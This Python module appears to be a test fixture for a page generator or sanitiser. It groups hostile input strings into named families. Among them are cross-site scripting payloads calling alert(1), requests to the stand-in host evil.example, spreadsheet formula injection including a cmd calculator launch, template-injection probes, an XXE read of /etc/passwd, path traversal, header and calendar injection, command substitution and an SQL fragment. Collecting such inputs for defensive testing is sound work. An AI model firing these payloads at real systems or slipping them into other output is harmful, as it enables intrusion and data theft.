"""Hostile words by family: what a scraped page, an editor's copy or a prankster's title may hold.

Each script in them would call `alert` or ask for an address of `evil.example`; each page is watched for both.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import dataclass

ASK = "//evil.example/x"
RUN = "alert(1)"


@dataclass(frozen=True, slots=True)
class Words:
    """One hostile piece of text."""

    family: str
    number: int
    text: str

    @property
    def name(self) -> str:
        return f"{self.family}-{self.number}"


SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={ASK}></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<script type=module>import '{ASK}'</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"]]><script>{RUN}</script>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<xmp><p title='</xmp><svg/onload={RUN}>'>",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>buka</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video src={ASK} onerror={RUN}></video>",
    f"<marquee onstart={RUN}>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}",
    f"` onmouseover=`{RUN}`",
    f'"><svg onload={RUN}>',
    f"'><svg onload={RUN}>",
    f"<a href='#' style='animation-name:x' onanimationstart={RUN}>a</a>",
    f'<p id="main" onclick="{RUN}">',
)
FRAMES = (
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=data:text/html,<script>{RUN}</script>></object>",
    f"<embed src={ASK}>",
    f"<meta http-equiv=refresh content='0;url=https:{ASK}'>",
    f"<base href=https:{ASK}>",
    f"<link rel=stylesheet href=https:{ASK}>",
    f"<style>@import 'https:{ASK}'; * {{ background: url(https:{ASK}) }}</style>",
    f"<img src=https:{ASK} srcset='https:{ASK} 2x'>",
    f"<form action=https:{ASK}><button>kirim</button></form>",
    f"<p style='background:url(https:{ASK})'>",
    f"<link rel=prefetch href=https:{ASK}><link rel=dns-prefetch href={ASK}>",
)
LINKS = (
    f"[klik](javascript:{RUN})",
    f"[klik](JaVaScRiPt:{RUN})",
    f"[klik](java\tscript:{RUN})",
    f"[klik](javascript&#58;{RUN})",
    f"[klik](&#x6A;avascript:{RUN})",
    f"[klik](\x01javascript:{RUN})",
    f"[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",  # noqa: F541
    f"[klik](vbscript:{RUN})",
    f"<javascript:{RUN}>",
    f"![gambar](https:{ASK})",
    f"![gambar](javascript:{RUN})",
    f'[klik](https:{ASK} "judul" onclick="{RUN}")',
    f"[klik]({ASK})",
    "[klik](file:///etc/passwd)",
    "[klik](entry:../../x)",
    "[](entry:<script>)",
    "[klik](..%2f..%2f..%2fetc/passwd)",
    f"[klik][1]\n\n[1]: javascript:{RUN}",
)
ENTITIES = (
    "&#0; &#x110000; &#xD800; &#xFFFE; &#99999999999;",
    "&lt &amp;amp; &bogus; &ampamp &#; &#x;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<!--<script>",
    "<? <img src=x onerror=alert(1)> ?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<b <i <u <a href='",
)
TEMPLATES = (
    "{{7*7}}",
    "{% for x in range(9) %}{{x}}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    "{# hilang #}",
    "{{ constructor.constructor('alert(1)')() }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s %(judul)s %d %n {0} {title.__class__} {}",
    "{% endblock %}{% block main %}kosong",
    "{{ title|safe }}",
)
DIRECTIONS = (
    "Rapat \u202eadutret ipatet\u202c dibuka",
    "Rapat \u202e\u202e\u202e dibuka tanpa penutup",
    "Rapat \u2066\u2067\u2068 dibuka tanpa penutup",
    "Rapat \u200f\u061c dibuka",
    "Rapat \u2069\u202c\u202c ditutup tanpa pembuka",
    "Laporan\u202egpj.exe",
)
LOOKALIKES = (
    "Ве\u0435ndra Vеlindra Ｖｅｌｉｎｄｒａ",
    "D\u0435wan M\u0435ranta",
    "Dewa\u0578 Meranta",
    "𝐃𝐞𝐰𝐚𝐧 𝕸𝖊𝖗𝖆𝖓𝖙𝖆",
)
UNSEEN = (
    "Ve\u200blin\u200bdra",
    "\ufeffRapat\ufeff",
    "\u200b" * 3_000,
    "Rapat" + "\u0301" * 3_000,
    "Ra" + "\u034f\u0489" * 1_000 + "pat",
    "".join(chr(0xE0000 + ord(letter)) for letter in "tersembunyi"),
    "\ufe0f" * 2_000 + "Rapat",
    "Rapat\u00ad" * 300,
    "\u2800\u3164\u115f",
    "Rapat\u2028baris\u2029alinea\x85lain",
)
CONTROLS = (
    "Rapat\x1b[2J\x1b]0;judul\x07",
    "Rapat\x08\x08\x08\x7f",
    "Rapat\x0b\x0c\x1c\x1d\x1e\x1f",
    "Rapat \ufffe\uffff\U0001ffff",
    "Rapat\x00nol",
    "Rapat\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "Rapat\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:palsu",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/x","klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '";=1+1',
)
LONG = (
    "panjang" * 3_000,
    "( [ { < " * 2_000,
    "2001-06-15 " * 1_500,
    "15 Juni 2001, " * 1_000,
    "1" * 5_000,
    "> " * 1_500,
    "*_`" * 2_000,
    "[" * 3_000 + "](x)",
    "- " * 1_000,
    "\t" * 4_000,
    "<b>" * 3_000,
    "| a " * 1_500,
)
FAMILIES: Mapping[str, tuple[str, ...]] = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "frames": FRAMES,
    "links": LINKS,
    "entities": ENTITIES,
    "templates": TEMPLATES,
    "directions": DIRECTIONS,
    "lookalikes": LOOKALIKES,
    "unseen": UNSEEN,
    "controls": CONTROLS,
    "formulas": FORMULAS,
    "long": LONG,
}
IDS = (
    "../../x", "..", "...", ".", "/etc/passwd", "a/../../b", "C:\\Windows\\x", "\\\\host\\x", "CON", "nul.html", "com1",
    "index", "INDEX", "x" * 200, "x" * 300, "%2e%2e%2fx", "?q=1#bagian", "nama ", ".tersembunyi", "名", "-", "_", "a:b",
    "<script>alert(1)</script>", '"onfocus="alert(1)', "\u202eterbalik", "a\u0301", "á", "A", "a", "javascript:alert(1)",
    "../index", "404", "data/manifest.json", "~", "$(id)", "`id`", "{{7*7}}", "'; DROP TABLE",
)  # fmt: skip
"""Ids that would be paths, devices, pages of the program's own, or code."""


def hostile() -> Iterator[Words]:
    """Give all hostile words, in order."""
    for family, texts in FAMILIES.items():
        for number, text in enumerate(texts, 1):
            yield Words(family, number, text)
